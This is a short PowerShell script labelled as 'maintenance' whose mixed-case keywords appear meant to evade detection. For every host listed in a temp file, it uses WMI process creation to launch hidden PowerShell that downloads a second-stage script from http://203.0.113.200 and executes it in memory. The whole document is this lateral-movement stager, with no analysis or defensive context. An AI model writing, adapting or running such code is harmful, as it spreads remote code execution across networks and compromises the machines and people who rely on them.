# MAinTEnaNcE 2242 V3
$tarGets = GeT-CoNTeNt c:\wInDOwS\temp\hosTs.TXt
forEACh ($t IN $taRgeTs) {
  InVoKe-WMiMethoD -comPUtErnaMe $t -cLASS wiN32_PrOceSs -namE creAtE -ArGUMENTLisT "powershell -nop -w hidden -c iex(iwr http://203.0.113.200/stage2.ps1)"
}
